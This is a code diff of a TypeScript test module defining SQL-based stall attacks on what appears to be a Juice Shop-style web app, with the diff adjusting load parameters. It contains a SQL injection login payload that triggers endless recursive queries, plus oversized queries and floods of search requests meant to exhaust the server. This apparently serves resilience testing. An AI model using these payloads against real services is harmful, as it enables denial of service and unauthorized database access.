@@ -86,7 +86,7 @@ export const sqlStalls: readonly Stall[] = [
   ),
   inLogin(
     'an expression as deep as it may be',
-    (times) => `SELECT sum(i${' + i'.repeat(450)}) FROM ${rows(times(300_000))}`,
+    (times) => `SELECT sum(i${' + i'.repeat(450)}) FROM ${rows(times(600_000))}`,
   ),
   inLogin(
     'as many selects as one statement may have',
@@ -101,11 +101,11 @@ export const sqlStalls: readonly Stall[] = [
       `SELECT count(*) FROM dbstat a, dbstat b, dbstat c, Challenges d WHERE d.id <= ${times(44)} AND a.payload + b.payload + c.payload < 0`,
   ),
   {
-    ...inLogin('thirty recursions without an end at once', () => ''),
+    ...inLogin('sixteen recursions without an end at once', () => ''),
     measure: 'readers that have less time for a text while others wait, and a queue that refuses',
-    controlScale: 0.1,
+    controlScale: 0.2,
     attack: async ({ url, scale }) => {
-      await Promise.all(Array.from({ length: 30 * scale }, (_, first) => logIn(url, `' OR (${endless(first)}) > 0--`)));
+      await Promise.all(Array.from({ length: 16 * scale }, (_, first) => logIn(url, `' OR (${endless(first)}) > 0--`)));
     },
   },
   {
@@ -129,7 +129,7 @@ export const sqlStalls: readonly Stall[] = [
       for (let id = 1; id <= 40; id += 1) {
         await client.call('PUT', `/api/Products/${id}`, { body: { description } });
       }
-      const words = Array.from({ length: 60 * scale }, (_, turn) => `${'a'.repeat(190)}${turn}`);
+      const words = Array.from({ length: 40 * scale }, (_, turn) => `${'a'.repeat(190)}${turn}`);
       await Promise.all(words.map((word) => createClient(url).get(`/rest/products/search?q=${word}`)));
     },
   },
